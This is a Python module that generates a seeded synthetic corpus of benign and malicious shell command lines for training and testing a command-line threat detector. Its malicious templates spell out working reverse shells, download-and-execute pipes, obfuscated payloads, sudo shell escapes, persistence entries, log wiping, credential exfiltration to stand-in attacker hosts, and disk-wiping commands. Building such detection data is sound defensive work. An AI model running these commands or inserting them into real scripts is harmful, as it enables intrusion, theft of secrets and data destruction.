# ruff: noqa: E501 -- templates are data: one command line per source line reads best.
"""Synthetic command lines for training and testing Tier-2 (benign and malicious).

Every line comes from templates written for this project, filled from small
vocabularies with a seeded `random.Random`, so the same seed always yields the
same corpus (the shipped model is reproducible from it). Nothing here is taken
from the evaluation data in shared/eval: the templates describe attack *shapes*
(download piped to a shell, /dev/tcp redirection, a shell spawned from a pager,
cron persistence, history wiping…) and everyday admin/developer work, including
hard negatives (curl to a file, `base64 -d` of a file, `docker run … /bin/bash`).

Standard library only: the tests import it without the `train` extra.
"""

from __future__ import annotations

import base64
import random
import string
from collections.abc import Callable

__all__ = ["DEFAULT_SEED", "benign", "corpus", "malicious"]

DEFAULT_SEED = 20261122

_HOSTS = [
    "example.org",
    "files.example.net",
    "cdn.example.com",
    "repo.internal.lan",
    "mirror.test",
    "updates.example.io",
    "git.example.dev",
]
_BAD_HOSTS = [
    "evil.example",
    "c2.badhost.test",
    "x7f.example.ru",
    "pastebin.example",
    "drop.attacker.test",
    "203.0.113.7",
    "198.51.100.23",
    "192.0.2.44",
]
_FILES = [
    "notes.txt",
    "report.pdf",
    "data.csv",
    "main.py",
    "config.yaml",
    "build.log",
    "README.md",
    "index.html",
    "archive.tar.gz",
    "photo.jpg",
    "app.js",
    "Makefile",
]
_DIRS = [
    "src",
    "docs",
    "build",
    "tmp",
    "logs",
    "project",
    "backup",
    "~/work",
    "/srv/www",
    "/var/www/html",
    "~/Downloads",
    "/opt/app",
]
_PKGS = [
    "git",
    "htop",
    "curl",
    "jq",
    "ripgrep",
    "nginx",
    "python3-venv",
    "tmux",
    "vim",
    "build-essential",
    "postgresql",
    "redis-server",
]
_USERS = ["alice", "bob", "deploy", "www-data", "postgres", "svc"]
_SERVICES = ["nginx", "ssh", "docker", "postgresql", "cron", "redis", "apache2"]
_SHELLS = ["/bin/sh", "/bin/bash", "sh", "bash", "/bin/dash", "/usr/bin/zsh"]
_INTERP = ["sh", "bash", "python3", "perl", "python", "zsh", "ruby"]
_PORTS = ["4444", "1337", "9001", "8080", "443", "53", "31337", "6666"]


def _word(rng: random.Random, n: int = 6) -> str:
    return "".join(rng.choice(string.ascii_lowercase) for _ in range(n))


def _blob(rng: random.Random, size: int) -> str:
    raw = bytes(rng.randrange(256) for _ in range(size))
    return base64.b64encode(raw).decode()


def _hexblob(rng: random.Random, size: int) -> str:
    return "".join(f"\\x{rng.randrange(256):02x}" for _ in range(size))


def _ip(rng: random.Random) -> str:
    return f"{rng.choice([10, 172, 192, 203, 198])}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"


def _url(rng: random.Random, bad: bool) -> str:
    host = rng.choice(_BAD_HOSTS if bad else _HOSTS)
    scheme = rng.choice(["http", "https"])
    path = rng.choice(
        [
            "install.sh",
            "x",
            "a.sh",
            "payload",
            "setup",
            "s",
            "update.sh",
            "k.py",
            "v1/get",
            "bin/agent",
            _word(rng, 4),
        ]
    )
    return f"{scheme}://{host}/{path}"


# --- benign ---------------------------------------------------------------------------------


def _b_files(r: random.Random) -> str:
    f, d = r.choice(_FILES), r.choice(_DIRS)
    return r.choice(
        [
            f"ls -la {d}",
            f"cp {f} {d}/",
            f"mv {f} {d}/{_word(r)}.bak",
            f"cat {f}",
            f"less {f}",
            f"grep -rn '{_word(r)}' {d}",
            f"find {d} -name '*.{r.choice(['py', 'log', 'txt'])}'",
            f"tar -czf {_word(r)}.tar.gz {d}",
            f"du -sh {d}/*",
            f"chmod 644 {f}",
            f"wc -l {f}",
            f"head -n {r.randrange(5, 50)} {f}",
            f"tail -f /var/log/{r.choice(['syslog', 'nginx/access.log'])}",
            f"rm -rf {d}/build",
            f"mkdir -p {d}/{_word(r)}",
            f"diff {f} {f}.orig",
            f"find . -type f -mtime +{r.randrange(2, 30)} -delete",
            f"sort {f} | uniq -c | sort -rn | head",
            f"rsync -av {d}/ backup:{d}/",
            f"ln -s {d}/{f} {f}",
            f"stat {f}",
            f"file {f}",
            f"chmod +x {r.choice(['build.sh', 'run.sh', 'scripts/deploy.sh'])}",
            f"find {d} -name '*.tmp' -exec rm {{}} \\;",
            f"xargs -a {f} -n1 echo",
            "cut -d: -f1 /etc/passwd | sort",
            f"awk -F, '{{print $2}}' {f}",
            f"sed -i 's/{_word(r)}/{_word(r)}/g' {f}",
            f"zip -r {_word(r)}.zip {d}",
        ]
    )


def _b_dev(r: random.Random) -> str:
    return r.choice(
        [
            "git status",
            f"git commit -m '{_word(r)} {_word(r)}'",
            "git pull --rebase",
            f"git checkout -b feature/{_word(r)}",
            "git log --oneline | head -20",
            "git diff HEAD~1",
            "python3 -m venv .venv && . .venv/bin/activate",
            "pip install -r requirements.txt",
            f"python3 {_word(r)}.py --verbose",
            "pytest -q tests/",
            "make -j2",
            "npm install",
            "npm run build",
            "cargo build --release",
            "go test ./...",
            f"docker build -t {_word(r)} .",
            "docker run --rm -it ubuntu:24.04 /bin/bash",
            f"docker exec -it {_word(r)} sh",
            f"kubectl logs -f deploy/{_word(r)}",
            f"kubectl exec -it {_word(r)} -- /bin/sh",
            "python3 -c 'import sys; print(sys.version)'",
            "node -e 'console.log(process.version)'",
            f"perl -ne 'print if /{_word(r)}/' {r.choice(_FILES)}",
            "ruby -v",
            "gcc -O2 -o app main.c",
            "echo $PATH | tr ':' '\\n'",
            "export EDITOR=vim",
            f"ssh {r.choice(_USERS)}@{r.choice(_HOSTS)}",
            f"scp {r.choice(_FILES)} {r.choice(_USERS)}@{r.choice(_HOSTS)}:~/",
            "history | grep ssh",
            f"bash -c 'cd {r.choice(_DIRS)} && make'",
            "sh ./configure --prefix=/usr/local",
            f"python3 -m http.server {r.choice(['8000', '8080'])}",
            "jq '.items[].name' out.json",
            f"echo '{_word(r)}' | sha256sum",
            "openssl rand -hex 16",
            "uuidgen",
            f"git clone https://{r.choice(_HOSTS)}/{_word(r)}/{_word(r)}.git",
        ]
    )


def _b_admin(r: random.Random) -> str:
    s, u, p = r.choice(_SERVICES), r.choice(_USERS), r.choice(_PKGS)
    return r.choice(
        [
            f"sudo apt-get install -y {p}",
            "sudo apt update && sudo apt upgrade",
            f"sudo systemctl restart {s}",
            f"systemctl status {s}",
            f"journalctl -u {s} --since today",
            f"sudo useradd -m {u}",
            "df -h",
            "free -m",
            "uptime",
            "top -b -n1 | head",
            "ps aux | grep python",
            "ip addr show",
            f"ping -c 3 {_ip(r)}",
            "ss -tlnp",
            f"sudo ufw allow {r.choice(['22', '80', '443'])}",
            "crontab -l",
            "crontab -e",
            f"sudo -u {u} whoami",
            "id",
            "who",
            "last | head",
            f"sudo tail -n 100 /var/log/{r.choice(['syslog', 'auth.log'])}",
            "lsblk",
            "mount | column -t",
            f"sudo chown -R {u}:{u} {r.choice(_DIRS)}",
            f"nc -zv {r.choice(_HOSTS)} {r.choice(['22', '80'])}",
            f"dig +short {r.choice(_HOSTS)}",
            f"sudo systemctl enable --now {s}",
            "hostnamectl",
            f"kill -9 {r.randrange(1000, 40000)}",
            "sudo reboot",
            "env | sort",
            "locale",
            f"sudo tcpdump -i eth0 port {r.choice(['80', '53'])} -c 20",
            f"chsh -s /bin/bash {u}",
            "echo 'alias ll=\"ls -la\"' >> ~/.bashrc",
            "source ~/.bashrc",
            f"sudo passwd {u}",
            "sudo visudo",
            f"ssh-keygen -t ed25519 -C {u}@{r.choice(_HOSTS)}",
            f"ssh-copy-id {u}@{r.choice(_HOSTS)}",
            f"sudo dd if={_word(r)}.iso of=/dev/sdb bs=4M status=progress",
        ]
    )


def _b_net(r: random.Random) -> str:
    url = _url(r, False)
    f = r.choice(_FILES)
    return r.choice(
        [
            f"curl -fsSLO {url}",
            f"curl -o {f} {url}",
            f"wget {url}",
            f"wget -qO- {url} | less",
            f"curl -s {url} | jq .",
            f"curl -I https://{r.choice(_HOSTS)}",
            f"curl -sS {url} | grep -i version",
            f"base64 -d {f}.b64 > {f}",
            f"base64 {f} > {f}.b64",
            f"echo {_word(r, 12)} | base64",
            f"curl -X POST -H 'Content-Type: application/json' -d '{{\"a\":1}}' {url}",
            f"wget -c {url} -O /tmp/{_word(r)}.iso",
            f"sha256sum -c {_word(r)}.sha256",
            f"gpg --verify {f}.sig {f}",
            f"curl -u {r.choice(_USERS)} {url}",
            "curl ifconfig.me",
            f"rsync -avz -e ssh {r.choice(_DIRS)} {r.choice(_HOSTS)}:/backup/",
            f"aria2c -x4 {url}",
            f"curl -s {url} -o /tmp/{_word(r)} && less /tmp/{_word(r)}",
            f"git remote add origin git@{r.choice(_HOSTS)}:{_word(r)}/{_word(r)}.git",
            f"docker pull {_word(r)}/{_word(r)}:latest",
            f"echo {_blob(r, 12)} | base64 -d | xxd",
        ]
    )


def _b_long(r: random.Random) -> str:
    # Long, busy, perfectly ordinary lines: loops, pipelines, inline scripts.
    f, d, u = r.choice(_FILES), r.choice(_DIRS), r.choice(_USERS)
    return r.choice(
        [
            f'for f in {d}/*.{r.choice(["jpg", "png", "log"])}; do convert "$f" -resize 50% "${{f%.*}}_small.jpg"; done',
            f"find {d} -type f -name '*.log' -mtime +7 -print0 | xargs -0 gzip -9 && echo done",
            "ps -eo pid,user,%cpu,%mem,cmd --sort=-%cpu | awk 'NR<=10 {print $1, $2, $3}' | column -t",
            f"cat {f} | grep -v '^#' | sed 's/  */ /g' | cut -d' ' -f2- | sort | uniq -c | sort -rn | head -20",
            f"while read -r line; do echo \"$line\" | awk -F: '{{print $1}}'; done < {f}",
            f"git log --since='2 weeks ago' --author={u} --pretty=format:'%h %ad %s' --date=short | tee changes.txt",
            "docker run --rm -v $(pwd):/src -w /src -e HOME=/tmp -u $(id -u):$(id -g) python:3.12 python -m pytest -x",
            "kubectl get pods -A -o json | jq -r '.items[] | select(.status.phase!=\"Running\") | .metadata.name'",
            f"python3 -c 'import json,sys; d=json.load(open(\"{f}\")); print(len(d), sorted(d)[:5])'",
            f'awk \'BEGIN {{FS=","}} {{sum += $3}} END {{printf "%.2f\\n", sum/NR}}\' {f}',
            f"tar -cf - {d} | pv -s $(du -sb {d} | awk '{{print $1}}') | gzip > {_word(r)}.tar.gz",
            f"ssh {u}@{r.choice(_HOSTS)} 'sudo journalctl -u {r.choice(_SERVICES)} -n 200 --no-pager' | less -R",
            f"openssl req -x509 -newkey rsa:4096 -keyout key.pem -out cert.pem -days 365 -nodes -subj '/CN={r.choice(_HOSTS)}'",
            f"for i in $(seq 1 {r.randrange(3, 20)}); do curl -s -o /dev/null -w '%{{http_code}}\\n' {_url(r, False)}; sleep 1; done",
            f'export PATH="$HOME/.local/bin:$PATH" && pip install --user {r.choice(_PKGS)} && {r.choice(_PKGS)} --version',
            f'echo "$(date +%F) $(hostname) $(uptime -p)" >> ~/{_word(r)}.log',
            "ffmpeg -i input.mp4 -vf scale=1280:-2 -c:v libx264 -crf 23 -preset fast -c:a copy output.mp4",
            f"rsync -avh --delete --exclude '.git' --exclude 'node_modules' {d}/ {u}@{r.choice(_HOSTS)}:/srv/{_word(r)}/",
            "find . -name '*.py' -exec sh -c 'black \"$1\" && isort \"$1\"' _ {} \\;",
            f"sudo sh -c 'echo {r.randrange(1, 100)} > /proc/sys/vm/swappiness'",
            "history | awk '{print $2}' | sort | uniq -c | sort -rn | head",
            f"git ls-files -z | xargs -0 sed -i 's/{_word(r)}/{_word(r)}/g'",
        ]
    )


# --- malicious ------------------------------------------------------------------------------


def _m_download_exec(r: random.Random) -> str:
    url, sh = _url(r, True), r.choice(_INTERP)
    t = f"/tmp/.{_word(r, 3)}" if r.random() < 0.5 else f"/dev/shm/{_word(r, 4)}"
    return r.choice(
        [
            f"curl -fsSL {url} | {sh}",
            f"wget -qO- {url} | {sh}",
            f"curl -s {url} | sudo {sh}",
            f"curl {url} -o {t} && chmod +x {t} && {t}",
            f"wget {url} -O {t}; chmod 755 {t}; {t} &",
            f"bash <(curl -s {url})",
            f'sh -c "$(curl -fsSL {url})"',
            f"wget -q {url} -O- | bash -s",
            f"curl -sk {url} | python3 -",
            f'eval "$(wget -qO- {url})"',
            f"source <(curl -s {url})",
            f"cd /tmp && wget {url} && chmod +x {url.rsplit('/', 1)[-1]} && ./{url.rsplit('/', 1)[-1]}",
            f"python3 -c \"import urllib.request as u;exec(u.urlopen('{url}').read())\"",
            f"curl -s {url} | base64 -d | {sh}",
            f"nohup curl -s {url} | bash >/dev/null 2>&1 &",
            f"tftp {r.choice(_BAD_HOSTS)} -c get {_word(r)} && chmod +x {_word(r)} && ./{_word(r)}",
        ]
    )


def _m_reverse_shell(r: random.Random) -> str:
    h, p = r.choice([*_BAD_HOSTS, _ip(r)]), r.choice(_PORTS)
    return r.choice(
        [
            f"bash -i >& /dev/tcp/{h}/{p} 0>&1",
            f"sh -i >& /dev/udp/{h}/{p} 0>&1",
            f"exec 5<>/dev/tcp/{h}/{p}; cat <&5 | while read l; do $l 2>&5 >&5; done",
            f"nc -e /bin/sh {h} {p}",
            f"ncat {h} {p} -e /bin/bash",
            f"nc -c bash {h} {p}",
            f"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {h} {p} >/tmp/f",
            f"socat tcp-connect:{h}:{p} exec:'bash -li',pty,stderr,setsid,sigint,sane",
            f'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("{h}",{p}));'
            f'[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")\'',
            f'perl -e \'use Socket;$i="{h}";$p={p};socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
            f'if(connect(S,sockaddr_in($p,inet_aton($i)))){{open(STDIN,">&S");exec("/bin/sh -i");}};\'',
            f'php -r \'$sock=fsockopen("{h}",{p});exec("/bin/sh -i <&3 >&3 2>&3");\'',
            f'ruby -rsocket -e \'f=TCPSocket.open("{h}",{p}).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'',
            f"mkfifo /tmp/.p; nc {h} {p} 0</tmp/.p | /bin/bash 1>/tmp/.p",
            f"openssl s_client -quiet -connect {h}:{p} | /bin/sh 2>&1 | openssl s_client -quiet -connect {h}:{int(p) + 1}",
            f"0<&196;exec 196<>/dev/tcp/{h}/{p}; sh <&196 >&196 2>&196",
            f"telnet {h} {p} | /bin/bash | telnet {h} {int(p) + 1}",
            f"awk 'BEGIN {{s = \"/inet/tcp/0/{h}/{p}\"; while(1) {{s |& getline c; print c |& s}}}}'",
        ]
    )


def _m_obfuscated(r: random.Random) -> str:
    blob = _blob(r, r.randrange(30, 90))
    sh = r.choice(_INTERP[:3])
    return r.choice(
        [
            f"echo {blob} | base64 -d | {sh}",
            f"echo '{blob}' | base64 --decode | bash",
            f'bash -c "$(echo {blob} | base64 -d)"',
            f"eval $(echo {blob} | base64 -d)",
            f"python3 -c \"import base64;exec(base64.b64decode('{blob}'))\"",
            f"printf '{_hexblob(r, 24)}' | sh",
            f"echo -e '{_hexblob(r, 20)}' | bash",
            f"echo {blob[::-1]} | rev | base64 -d | sh",
            f"c\\u\\r\\l -s {_url(r, True)} | s\\h",
            f"w'g'e't' -qO- {_url(r, True)} | b'a's'h'",
            "cat${IFS}/etc/shadow",
            f"{{echo,{blob}}}|{{base64,-d}}|{{bash,-i}}",
            "$'\\x62\\x61\\x73\\x68' -c 'id'",
            f'perl -e \'eval(pack("H*","{"".join(f"{r.randrange(256):02x}" for _ in range(40))}"))\'',
            f"echo {blob} | openssl enc -d -base64 | sh",
            f"xxd -r -p <<< {''.join(f'{r.randrange(256):02x}' for _ in range(30))} | bash",
        ]
    )


def _m_shell_escape(r: random.Random) -> str:
    sh = r.choice(_SHELLS)
    return r.choice(
        [
            f"sudo find . -exec {sh} \\; -quit",
            f"find / -name x -exec {sh} -p \\;",
            f"sudo vim -c ':!{sh}'",
            f"vi -c ':set shell={sh}' -c ':shell'",
            f"sudo awk 'BEGIN {{system(\"{sh}\")}}'",
            f"sudo less /etc/hosts !{sh}",
            f"man man '!{sh}'",
            f"sudo tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec={sh}",
            f"sudo python3 -c 'import os; os.system(\"{sh}\")'",
            f"sudo perl -e 'exec \"{sh}\";'",
            f"sudo ruby -e 'exec \"{sh}\"'",
            f"sudo lua -e 'os.execute(\"{sh}\")'",
            f"sudo env {sh}",
            f"sudo nice {sh}",
            f"sudo stdbuf -i0 {sh}",
            f"timeout 7d {sh} -p",
            f"sudo gdb -nx -ex '!{sh}' -ex quit",
            f"sudo zip /tmp/x.zip /etc/hosts -T -TT '{sh} #'",
            f"sudo git -p help config !{sh}",
            f"sudo ftp !{sh}",
            f"script -q /dev/null -c {sh}",
            f"sudo rsync -e '{sh} -c \"{sh} 0<&2 1>&2\"' 127.0.0.1:/dev/null",
            f"sudo ssh -o ProxyCommand=';{sh} 0<&2 1>&2' x",
            f'sudo node -e \'require("child_process").spawn("{sh}", {{stdio: [0, 1, 2]}})\'',
            f"sudo php -r 'system(\"{sh} -i\");'",
            f"sudo -u#-1 {sh}",
            f"python -c 'import pty;pty.spawn(\"{sh}\")'",
            f"sudo expect -c 'spawn {sh};interact'",
            f"sudo busybox {sh}",
            f"cp {sh} /tmp/.r; chmod u+s /tmp/.r; /tmp/.r -p",
            f"sudo xargs -a /dev/null {sh}",
            f"sudo flock -u / {sh}",
            f"sudo ionice {sh}",
            f"sudo make -s --eval=$'x:\\n\\t-'\"{sh}\"",
            f"sudo mysql -e '\\! {sh}'",
            f"sudo setarch $(arch) {sh}",
        ]
    )


def _m_shell_handoff(r: random.Random) -> str:
    # Any program that accepts a command to run, given a shell, under sudo: the
    # program names are invented on purpose, so the shape is learnt, not a list.
    prog = r.choice(["tool", "helper", "runner", "mgr", "ctl", "agent", "util"]) + _word(r, 2)
    opt = r.choice(
        [
            "-e ",
            "-x ",
            "--hook=",
            "--exec=",
            "--cmd ",
            "-s ",
            "--shell=",
            "-o Cmd=",
            "--run ",
            "-P ",
            "",
        ]
    )
    sh = r.choice(["/bin/sh", "/bin/bash", "/bin/dash", "/usr/bin/sh"])
    tail = r.choice(["", " -p", " -i", " 0<&2 1>&2", " x", " localhost", " --quiet"])
    pre = r.choice(["sudo ", "sudo ", "sudo -u root ", "doas ", "su -c '"])
    line = f"{pre}{prog} {opt}{sh}{tail}"
    return line + ("'" if pre.startswith("su -c") else "")


def _m_persistence(r: random.Random) -> str:
    url, h, p = _url(r, True), r.choice(_BAD_HOSTS), r.choice(_PORTS)
    payload = r.choice(
        [f"curl -s {url} | sh", f"bash -i >& /dev/tcp/{h}/{p} 0>&1", f"/tmp/.{_word(r, 3)}"]
    )
    return r.choice(
        [
            f"(crontab -l; echo '* * * * * {payload}') | crontab -",
            f"echo '*/5 * * * * root {payload}' >> /etc/crontab",
            f"echo '@reboot {payload}' > /etc/cron.d/{_word(r)}",
            f"echo '{payload}' >> ~/.bashrc",
            f"echo '{payload}' >> /etc/profile.d/{_word(r)}.sh",
            f"printf '[Service]\\nExecStart={payload}\\n' > /etc/systemd/system/{_word(r)}.service && systemctl enable {_word(r)}",
            f"echo '/tmp/.{_word(r, 3)}.so' > /etc/ld.so.preload",
            f"echo 'ssh-ed25519 AAAAC3Nza{_word(r, 30)} x' >> /root/.ssh/authorized_keys",
            f"echo '{payload}' >> /etc/rc.local",
            f"cp /tmp/.{_word(r, 3)} /etc/init.d/{_word(r)} && update-rc.d {_word(r)} defaults",
            f"mkdir -p ~/.config/autostart && cp {_word(r)}.desktop ~/.config/autostart/",
            f"echo '{r.choice(_USERS)} ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
            f"useradd -o -u 0 -g 0 -M -d /root -s /bin/bash {_word(r)}",
            f"echo '{_word(r)}:x:0:0::/root:/bin/bash' >> /etc/passwd",
            f"echo '{payload}' | at now + 1 minute",
            f"printf '%s\\n' '{payload}' | sudo tee -a /etc/rc.common",
            f"echo '{payload}' >> /usr/local/etc/rc.d/{_word(r)}",
            f"systemd-run --user --on-calendar '*:0/5' /bin/sh -c '{payload}'",
            f"trap '{payload}' EXIT",
            f"echo 'session optional pam_exec.so /tmp/.{_word(r, 3)}' >> /etc/pam.d/sshd",
        ]
    )


def _m_antiforensics(r: random.Random) -> str:
    return r.choice(
        [
            "history -c && history -w",
            "unset HISTFILE",
            "export HISTFILE=/dev/null",
            "HISTSIZE=0",
            "set +o history",
            "rm -f ~/.bash_history",
            "shred -zu ~/.bash_history",
            "ln -sf /dev/null ~/.bash_history",
            "cat /dev/null > /var/log/auth.log",
            "echo > /var/log/wtmp",
            "rm -rf /var/log/*",
            f"truncate -s 0 /var/log/{r.choice(['syslog', 'secure', 'messages', 'auth.log'])}",
            "journalctl --vacuum-time=1s",
            "systemctl stop auditd",
            "auditctl -D",
            "setenforce 0",
            f"touch -r /bin/ls /tmp/.{_word(r, 3)}",
            f"touch -t 202001010000 /usr/bin/{_word(r)}",
            "utmpdump /var/log/wtmp | grep -v root > /tmp/w; utmpdump -r < /tmp/w > /var/log/wtmp",
            "chattr +i /etc/passwd",
            "iptables -F && ufw disable",
            "kill -9 $(pidof rsyslogd)",
            "echo '' > $HISTFILE",
            f"unlink /var/log/{r.choice(['syslog', 'messages', 'auth.log'])}",
            "sed -i 's/^#Storage=.*/Storage=none/' /etc/systemd/journald.conf",
        ]
    )


def _m_credentials(r: random.Random) -> str:
    h = r.choice(_BAD_HOSTS)
    return r.choice(
        [
            "cat /etc/shadow",
            "sudo cp /etc/shadow /tmp/.s",
            f"tar czf - ~/.ssh | curl -X POST --data-binary @- http://{h}/u",
            "grep -r 'password' /home/*/.bash_history",
            "cat ~/.aws/credentials",
            f"scp /etc/shadow x@{h}:/tmp/",
            "unshadow /etc/passwd /etc/shadow > /tmp/h",
            "find / -name id_rsa 2>/dev/null",
            "strings /proc/$(pidof sshd)/mem | grep -i pass",
            f"curl -F f=@/root/.ssh/id_rsa http://{h}/",
            "cat /root/.bash_history",
            "cat ~/.docker/config.json",
            "gcore -o /tmp/d $(pidof gnome-keyring-daemon)",
            "cat ~/.git-credentials",
            f"base64 -w0 /etc/shadow | curl -d @- http://{h}/",
        ]
    )


def _m_destructive(r: random.Random) -> str:
    return r.choice(
        [
            "rm -rf / --no-preserve-root",
            "rm -rf /*",
            "rm -rf ~",
            "mkfs.ext4 /dev/sda1",
            ":(){ :|:& };:",
            "dd if=/dev/zero of=/dev/sda bs=1M",
            "dd if=/dev/urandom of=/dev/nvme0n1",
            "chmod -R 777 /",
            "wipefs -a /dev/sda",
            "> /dev/sda",
            "crontab -r",
            "kill -9 -1",
            "rm -rf $HOME/",
        ]
    )


_BENIGN: tuple[Callable[[random.Random], str], ...] = (_b_files, _b_dev, _b_admin, _b_net, _b_long)
_MALICIOUS: tuple[Callable[[random.Random], str], ...] = (
    _m_download_exec,
    _m_reverse_shell,
    _m_obfuscated,
    _m_shell_escape,
    _m_persistence,
    _m_antiforensics,
    _m_credentials,
    _m_destructive,
    _m_shell_handoff,
)


def _lines(
    makers: tuple[Callable[[random.Random], str], ...], n: int, rng: random.Random
) -> list[str]:
    out: list[str] = []
    for i in range(n):
        out.append(makers[i % len(makers)](rng))
    return out


def benign(n: int, seed: int = DEFAULT_SEED) -> list[str]:
    """`n` benign lines, deterministic for a given seed."""
    return _lines(_BENIGN, n, random.Random(seed))


def malicious(n: int, seed: int = DEFAULT_SEED) -> list[str]:
    """`n` malicious lines, deterministic for a given seed."""
    return _lines(_MALICIOUS, n, random.Random(seed + 1))


def corpus(
    n_benign: int, n_malicious: int, seed: int = DEFAULT_SEED
) -> tuple[list[str], list[int]]:
    """Lines and labels (1 = malicious), benign first."""
    b, m = benign(n_benign, seed), malicious(n_malicious, seed)
    return b + m, [0] * len(b) + [1] * len(m)
